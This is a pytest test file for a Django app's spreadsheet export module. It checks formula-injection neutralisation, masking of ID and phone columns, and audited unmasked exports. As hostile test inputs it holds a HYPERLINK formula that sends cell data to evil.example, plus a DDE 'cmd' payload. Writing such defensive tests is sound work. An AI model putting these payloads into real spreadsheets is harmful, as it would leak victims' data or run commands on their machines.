"""The one spreadsheet writer (shequ.core.exports): formula injection neutralised in xlsx and
CSV, numbers kept as numbers, masking by default, audited unmasked exports; every export of
the product fed hostile text end to end; no module writing spreadsheets around the writer."""

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import NoReverseMatch, get_resolver, reverse
from openpyxl import Workbook, load_workbook

from shequ.cases.models import Category
from shequ.core import exports
from shequ.core.errors import InvalidInput
from shequ.core.exports import (
    Column,
    ExportFormat,
    ExportKind,
    Formatted,
    Formula,
    FormulaNotAllowed,
    Mask,
    Sheet,
    export_write,
)
from shequ.core.models import AuditEvent
from shequ.geo.models import House, Region
from shequ.people.models import ImportJob
from tests.support.analytics import random_cases
from tests.support.factories import make_person, valid_id

pytestmark = pytest.mark.django_db

# The characters that make a spreadsheet read a cell as a formula (issue 12, OWASP).
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
MORE = ["\n", " =", "\u3000+", "＝", "＠"]  # line feed, after leading spaces, full width


def hostile(prefix: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?d="&A1,"点我")'


def as_read_back(text: str) -> str:
    """XML (and so xlsx) keeps line breaks as \\n: a carriage return is read back as one."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


KIND = ExportKind(name="tests.export", label="测试导出", url_name="people-export")


@pytest.fixture
def kind(monkeypatch):
    """A registered export for the unit tests (removed again afterwards)."""
    monkeypatch.setitem(exports._registry, KIND.name, KIND)
    return KIND


@pytest.fixture
def actor(persona):
    return persona("community")


def write(actor, kind, rows, *, columns=None, fmt=ExportFormat.XLSX, **extra):
    columns = columns or [Column(label="值")]
    sheet = Sheet(
        title="数据", columns=columns, rows=rows, allow_formulas=extra.pop("formulas", False)
    )
    return export_write(
        actor=actor,
        kind=kind,
        sheets=[sheet],
        filename="test",
        region_code="321181",
        object_repr="测试",
        format=fmt,
        **extra,
    )


def data_cells(content: bytes):
    """The cells below the header of the first sheet."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [row[0] for row in sheet.iter_rows(min_row=2)]


def csv_rows(content: bytes, **kwargs) -> list[list]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), **kwargs))


# --- the writer: formula safety ----------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES + MORE)
def test_xlsx_text_with_a_formula_prefix_is_stored_as_literal_text(actor, kind, prefix):
    text = hostile(prefix)
    # Without the writer openpyxl turns "=…" into a formula: the check below can fail.
    plain = Workbook()
    plain.active.append(["=1+1"])
    assert plain.active["A1"].data_type == "f"

    (cell,) = data_cells(write(actor, kind, [[text]]).content)
    assert cell.data_type == "s" and cell.value == as_read_back(text)
    assert cell.quotePrefix  # Excel's "typed with a leading '": stays text when edited


@pytest.mark.parametrize("prefix", PREFIXES + MORE)
def test_csv_text_with_a_formula_prefix_gets_a_single_quote(actor, kind, prefix):
    text = hostile(prefix)
    export = write(actor, kind, [[text]], fmt=ExportFormat.CSV)
    assert export.filename == "test.csv" and export.content_type.startswith("text/csv")
    header, value = csv_rows(export.content)
    assert header == ["值"] and value == ["'" + text]


def test_csv_quotes_every_text_field_as_owasp_shows(actor, kind):
    """OWASP's own examples: a separator or a quote inside the data cannot start a new cell."""
    export = write(actor, kind, [['=1+2";=1+2'], ["=1+2'\" ;,=1+2"]], fmt=ExportFormat.CSV)
    lines = export.content.decode("utf-8").removeprefix("\ufeff").split("\r\n")
    assert lines[1:3] == ['"\'=1+2"";=1+2"', '"\'=1+2\'"" ;,=1+2"']


def test_harmless_text_is_unchanged(actor, kind):
    values = ["张三", "a=b", "1-2", "138****1234", "", "'已引用", "#N/A"]
    cells = data_cells(write(actor, kind, [[v] for v in values]).content)
    # openpyxl would store "#N/A" as an error value; the writer keeps it text.
    assert [(c.value or "", c.data_type, bool(c.quotePrefix)) for c in cells] == [
        ("张三", "s", False),
        ("a=b", "s", False),
        ("1-2", "s", False),
        ("138****1234", "s", False),
        ("", "n", False),
        ("'已引用", "s", False),
        ("#N/A", "s", False),
    ]
    rows = csv_rows(write(actor, kind, [[v] for v in values], fmt=ExportFormat.CSV).content)
    assert [r[0] for r in rows[1:]] == values


def test_numbers_stay_numbers_and_text_numbers_stay_text(actor, kind):
    when = dt.datetime(2026, 5, 1, 8, 30, tzinfo=dt.UTC)
    values = [-1, 2.5, Decimal("-3.25"), 0, "-1", "-1+2", "=1+1", dt.date(2026, 5, 1), when]
    cells = data_cells(write(actor, kind, [[v] for v in values]).content)
    assert [(c.value, c.data_type) for c in cells[:4]] == [
        (-1, "n"),
        (2.5, "n"),
        (-3.25, "n"),
        (0, "n"),
    ]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[4:7]] == [
        ("-1", "s", True),
        ("-1+2", "s", True),
        ("=1+1", "s", True),
    ]
    assert cells[7].is_date and cells[7].value == dt.datetime(2026, 5, 1)
    assert cells[8].value == dt.datetime(2026, 5, 1, 16, 30)  # local time (Asia/Shanghai)
    raw = write(actor, kind, [[v] for v in values], fmt=ExportFormat.CSV).content.decode()
    assert "\r\n-1\r\n2.5\r\n-3.25\r\n0\r\n" in raw  # numbers unquoted
    rows = csv_rows(raw.encode(), quoting=csv.QUOTE_NONNUMERIC)
    assert [r[0] for r in rows[1:]] == [
        -1.0,
        2.5,
        -3.25,
        0.0,
        "'-1",
        "'-1+2",
        "'=1+1",
        "2026-05-01",
        "2026-05-01 16:30:00",
    ]


def test_control_characters_and_non_finite_numbers_do_not_break_the_file(actor, kind):
    rows = [["a\x00b\x07c", 1], ["\x00=1+1", 2], [float("nan"), 3], [Decimal("Infinity"), 4]]
    columns = [Column(label="a"), Column(label="b")]
    sheet = load_workbook(io.BytesIO(write(actor, kind, rows, columns=columns).content)).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert values == [("abc", 1), ("=1+1", 2), (None, 3), (None, 4)]
    assert sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix


def test_formulas_only_where_the_code_asks_for_them(actor, kind):
    with pytest.raises(FormulaNotAllowed):
        write(actor, kind, [[Formula("=1+1")]])
    export = write(
        actor,
        kind,
        [[2, 3, Formula("=A2*B2")], ["=9*9", "@x", Formatted(0.25, "0.0%")]],
        columns=[Column(label="a"), Column(label="b"), Column(label="c")],
        formulas=True,
    )
    sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
    assert (sheet["C2"].data_type, sheet["C2"].value) == ("f", "=A2*B2")
    # Data in a formula sheet is still text; a format travels with its value.
    assert (sheet["A3"].data_type, sheet["A3"].value, sheet["A3"].quotePrefix) == (
        "s",
        "=9*9",
        True,
    )
    assert sheet["C3"].value == 0.25 and sheet["C3"].number_format == "0.0%"
    for refused in ("1+1", "=", '=HYPERLINK("http://evil.example")', "=cmd|' /C calc'!A0"):
        with pytest.raises(ValueError):
            Formula(refused)


def test_rows_are_consumed_lazily_and_checked(actor, kind):
    seen = []

    def rows():
        for n in range(5000):
            seen.append(n)
            yield [n]

    export = write(actor, kind, rows())
    assert export.rows == 5000 and len(seen) == 5000
    with pytest.raises(ValueError):
        write(actor, kind, [[1, 2]])  # more values than columns
    with pytest.raises(ValueError):
        export_write(
            actor=actor,
            kind=kind,
            sheets=[Sheet(title="a", columns=[]), Sheet(title="b", columns=[])],
            filename="x",
            region_code="321181",
            object_repr="x",
            format=ExportFormat.CSV,
        )


def test_a_failed_write_leaves_no_temporary_files(actor, kind):
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    before = list(ALL_TEMP_FILES)

    def rows():
        yield ["一"]
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        write(actor, kind, rows())
    assert before == ALL_TEMP_FILES
    assert not AuditEvent.objects.filter(action=KIND.name).exists()


def test_an_unregistered_export_is_refused(actor):
    with pytest.raises(ValueError):
        write(actor, ExportKind(name="tests.unknown", label="x", url_name="x"), [[1]])
    assert not AuditEvent.objects.filter(action="tests.unknown").exists()


def test_sheet_titles_are_cleaned_and_unique(actor, kind):
    export = export_write(
        actor=actor,
        kind=kind,
        sheets=[
            Sheet(title="a/b:c*" + "长" * 40, columns=[Column(label="x")]),
            Sheet(title="a/b:c*" + "长" * 40, columns=[Column(label="x")]),
        ],
        filename="x",
        region_code="321181",
        object_repr="x",
    )
    names = load_workbook(io.BytesIO(export.content)).sheetnames
    assert len(names) == 2 and len(set(names)) == 2
    assert all(len(n) <= 31 and "/" not in n and ":" not in n for n in names)


# --- the writer: masking and audit -------------------------------------------------------------

SENSITIVE = [
    Column(label="姓名"),
    Column(label="证件号码", sensitive=Mask.ID_NUMBER),
    Column(label="手机号码", sensitive=Mask.PHONE),
    Column(label="监护人", sensitive=Mask.NAME),
]
ROW = ["张三", "32118119800517001X", "19912345678", "李四明"]


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_sensitive_columns_are_masked_by_default(actor, kind, fmt):
    export = write(actor, kind, [ROW], columns=SENSITIVE, fmt=fmt)
    expected = ["张三", "3211**********001X", "199****5678", "李*明"]
    if fmt is ExportFormat.CSV:
        assert csv_rows(export.content)[1] == expected
    else:
        sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
        assert [c.value for c in sheet[2]] == expected
    assert not export.unmasked and b"32118119800517001X" not in export.content
    event = AuditEvent.objects.get(action=KIND.name)
    assert event.details["unmasked"] is False and event.reason == ""


def test_unmasked_needs_a_purpose_and_is_audited(actor, kind):
    for purpose in ("", " ", "x", " 查 "):
        with pytest.raises(InvalidInput) as refused:
            write(actor, kind, [ROW], columns=SENSITIVE, unmasked_purpose=purpose)
        assert refused.value.code == "reason_required"
    assert not AuditEvent.objects.filter(action=KIND.name).exists()
    export = write(
        actor,
        kind,
        [ROW, ROW, ROW],
        columns=SENSITIVE,
        unmasked_purpose=" 民政局低保年审 ",
        object_type="people.person",
        details={"filters": {"tag": "dibao"}},
    )
    sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
    assert [c.value for c in sheet[2]] == ROW and export.unmasked and export.rows == 3
    event = AuditEvent.objects.get(action=KIND.name)
    assert event.actor == actor and event.actor_name == "community"
    assert event.reason == "民政局低保年审" and event.region_code == "321181"
    assert event.object_type == "people.person" and event.object_repr == "测试"
    assert event.details == {
        "filters": {"tag": "dibao"},
        "count": 3,
        "format": "xlsx",
        "unmasked": True,
        "sensitive_columns": ["手机号码", "监护人", "证件号码"],
    }
    props = load_workbook(io.BytesIO(export.content)).properties
    assert props.creator == "community" and "用途：民政局低保年审" in props.description


def test_audit_counts_data_rows_not_notes(actor, kind):
    export = export_write(
        actor=actor,
        kind=kind,
        sheets=[
            Sheet(title="a", columns=[Column(label="x")], rows=[[1], [2]], preamble=[["标题"]]),
            Sheet(title="b", columns=[Column(label="x")], rows=[[3]]),
            Sheet(title="说明", columns=[Column(label="x")], rows=[["注"]] * 5, counted=False),
        ],
        filename="x",
        region_code="321181",
        object_repr=lambda n: f"{n} 行",
    )
    event = AuditEvent.objects.get(action=KIND.name)
    assert export.rows == 3 and event.details["count"] == 3 and event.object_repr == "3 行"


def test_export_response_is_an_uncached_attachment(actor, kind):
    response = exports.export_response(write(actor, kind, [[1]]))
    assert response["Content-Type"] == exports.CONTENT_TYPES[ExportFormat.XLSX]
    assert response["Content-Disposition"] == 'attachment; filename="test.xlsx"'
    assert response["Cache-Control"] == "no-store"


# --- every export of the product, end to end ---------------------------------------------------


def drive_people_export(client_as, world, on_commit):
    """Residents named with each prefix; the masked export (grid worker) and the unmasked one
    (community staff, with a purpose)."""
    houses = list(House.objects.filter(region_code=world["grid_a"]).order_by("code")[:12])
    for house, prefix in zip(houses, PREFIXES + MORE, strict=False):
        make_person(house=house, name=hostile(prefix)[:50])
    masked = client_as("grid").get("/people/export/")
    full = client_as("community").post("/people/export/", {"unmasked": "on", "reason": "核对"})
    return [masked, full], [hostile(p)[:50] for p in PREFIXES + MORE]


def _upload_xlsx(rows: list[list]) -> bytes:
    """An uploaded ledger whose cells are literal text (as a hostile user would type them)."""
    book = Workbook()
    for values in rows:
        book.active.append(values)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def drive_import_report(client_as, world, on_commit):
    """A ledger with each prefix in the 民族 and 网格 columns: each is a reported problem."""
    client = client_as("community")
    rows = [["姓名", "身份证号", "民族", "网格"]]
    for prefix in PREFIXES + MORE:
        rows.append(["张三", valid_id(), hostile(prefix), hostile(prefix)])
    content = _upload_xlsx(rows)
    data = {
        "file": SimpleUploadedFile("台账.xlsx", content),
        "community": world["community"],
        "grid": "",
    }
    with on_commit(execute=True):  # the import job runs after the upload commits
        assert client.post("/people/import/", data).status_code == 302
    job = ImportJob.objects.latest("id")
    assert job.status == "rejected" and job.error_count >= len(PREFIXES)
    # The importer trims spaces (so "\t=…" arrives as "=…"), folds full-width forms and
    # shortens long values: the four visible prefixes reach the report as they were typed.
    report = client.get(f"/people/import/{job.pk}/report.xlsx")
    return [report], [hostile(p)[:30] for p in ("=", "+", "-", "@")]


def drive_cockpit_export(client_as, world, on_commit):
    """Grids and categories named with each prefix, with cases in them."""
    names = [hostile(p) for p in PREFIXES + MORE]
    grids = [world["grid_a"], world["grid_b"]]
    random_cases(grids, n=60, seed=11, start=dt.date(2026, 10, 1), days=20)
    Region.objects.filter(code=grids[0]).update(name=names[0])
    Region.objects.filter(code=grids[1]).update(name=names[1])
    Region.objects.filter(code=world["community"]).update(name=names[2])
    used = Category.objects.filter(parent__isnull=False).order_by("code")[:12]
    for category, name in zip(used, names * 2, strict=False):
        Category.objects.filter(pk=category.pk).update(name=name)
    params = {"period": "custom", "from": "2026-10-01", "to": "2026-10-31"}
    responses = [
        client_as("community").get("/analytics/export.xlsx", params),
        client_as("township").get(
            "/analytics/export.xlsx", {**params, "region": world["community"]}
        ),
    ]
    return responses, names


DRIVERS = {
    "people.export": drive_people_export,
    "people.import_report": drive_import_report,
    "analytics.export": drive_cockpit_export,
}


def test_every_registered_export_is_driven_end_to_end():
    """A new export registers with the writer (or it cannot write); this test then fails until
    it is added to DRIVERS below, so it is fed hostile text too."""
    get_resolver().url_patterns  # noqa: B018 - imports every view and so every export module
    registered = exports.registered_exports()
    assert set(registered) == set(DRIVERS)
    for kind in registered.values():
        try:
            assert reverse(kind.url_name)
        except NoReverseMatch:
            assert reverse(kind.url_name, kwargs={"pk": 1})


@pytest.mark.usefixtures("categories")
@pytest.mark.parametrize("name", sorted(DRIVERS))
def test_hostile_text_through_every_export(
    name, client_as, world, django_capture_on_commit_callbacks
):
    """Every export, downloaded through its view with data starting with each prefix: no
    cell is a formula, and the hostile text is there, as text with a quote prefix."""
    responses, expected = DRIVERS[name](client_as, world, django_capture_on_commit_callbacks)
    for response in responses:
        assert response.status_code == 200, response
        assert response.export.kind.name == name  # written by core.exports, not around it
        book = load_workbook(io.BytesIO(response.content))
        texts = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", (sheet.title, cell.coordinate)
                        texts.append(cell)
        for text in expected:
            hits = [c for c in texts if c.value.startswith(as_read_back(text))]
            assert hits, (name, text)
            assert all(c.quotePrefix for c in hits), (name, text)


# --- nothing writes spreadsheets around the writer ---------------------------------------------

ROOT = Path(__file__).resolve().parent.parent / "shequ"
WRITER = ROOT / "core" / "exports.py"
# Functions allowed to write a workbook or CSV themselves, and why.
ALLOWED = {
    "import_template": "the blank import template: code-written form, no data (moves with "
    "the importer; it holds no database values to neutralise, mask or audit)",
    "_copy_postgres": "a temporary COPY spool into PostgreSQL (demo seeding), never a file "
    "for people",
}
WRITING_CALLS = {
    "openpyxl.Workbook",
    "openpyxl.workbook.Workbook",
    "openpyxl.workbook.workbook.Workbook",
    "openpyxl.writer.excel.save_workbook",
    "openpyxl.cell.WriteOnlyCell",
    "csv.writer",
    "csv.DictWriter",
}
WRITING_METHODS = {"to_csv", "to_excel"}  # pandas & co.
CONTENT_TYPE_MARKERS = ("spreadsheetml", "text/csv", "ms-excel")


def _imported_names(tree: ast.AST) -> dict[str, str]:
    """Local name → dotted origin ("W" → "openpyxl.Workbook", "csv" → "csv")."""
    names: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                names[alias.asname or alias.name.split(".")[0]] = (
                    alias.name if alias.asname else alias.name.split(".")[0]
                )
        elif isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                names[alias.asname or alias.name] = f"{node.module}.{alias.name}"
    return names


def _dotted(expr: ast.expr, names: dict[str, str]) -> str:
    if isinstance(expr, ast.Name):
        return names.get(expr.id, expr.id)
    if isinstance(expr, ast.Attribute):
        return f"{_dotted(expr.value, names)}.{expr.attr}"
    return ""


def _writing(node: ast.AST, names: dict[str, str]) -> str:
    """What `node` does that only the writer may do ("" when nothing)."""
    if isinstance(node, ast.Call):
        name = _dotted(node.func, names)
        if name in WRITING_CALLS or (
            isinstance(node.func, ast.Attribute) and node.func.attr in WRITING_METHODS
        ):
            return f"calls {name}"
    if (
        isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and any(marker in node.value for marker in CONTENT_TYPE_MARKERS)
    ):
        return "names a spreadsheet content type"
    return ""


def _scan(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    names = _imported_names(tree)
    where = path.relative_to(ROOT.parent)
    found = []
    stack: list[tuple[ast.AST, str]] = [(tree, "<module>")]
    while stack:
        node, function = stack.pop()
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            function = node.name
        if function in ALLOWED:
            continue
        if what := _writing(node, names):
            found.append(f"{where}:{node.lineno} {function} {what}")
        stack.extend((child, function) for child in ast.iter_child_nodes(node))
    return found


def _writers_outside_the_writer() -> list[str]:
    found = []
    for path in sorted(ROOT.rglob("*.py")):
        if path != WRITER and "migrations" not in path.parts:
            found += _scan(path)
    return sorted(found, key=lambda line: (line.split(":")[0], int(line.split(":")[1].split()[0])))


def test_no_module_writes_spreadsheets_around_the_writer():
    assert len(list(ROOT.rglob("*.py"))) > 100  # the real tree is scanned
    # The scan recognises the writer's own code for what it is …
    found = " ".join(_scan(WRITER))
    assert "calls openpyxl.Workbook" in found and "calls csv.writer" in found
    # … and finds no other module doing the same.
    assert _writers_outside_the_writer() == []


def test_the_check_finds_a_planted_writer(tmp_path, monkeypatch):
    """The check above can fail: a module writing a workbook or a CSV is found."""
    planted = tmp_path / "shequ" / "planted"
    planted.mkdir(parents=True)
    (planted / "report.py").write_text(
        "import csv\nfrom openpyxl import Workbook as W\n\n"
        "def report(rows):\n    W().save('x.xlsx')\n    csv.writer(open('x.csv', 'w'))\n"
        "    return 'text/csv'\n",
        encoding="utf-8",
    )
    monkeypatch.setitem(globals(), "ROOT", tmp_path / "shequ")
    found = _writers_outside_the_writer()
    assert [line.split(" ", 2)[2] for line in found] == [
        "calls openpyxl.Workbook",
        "calls csv.writer",
        "names a spreadsheet content type",
    ]
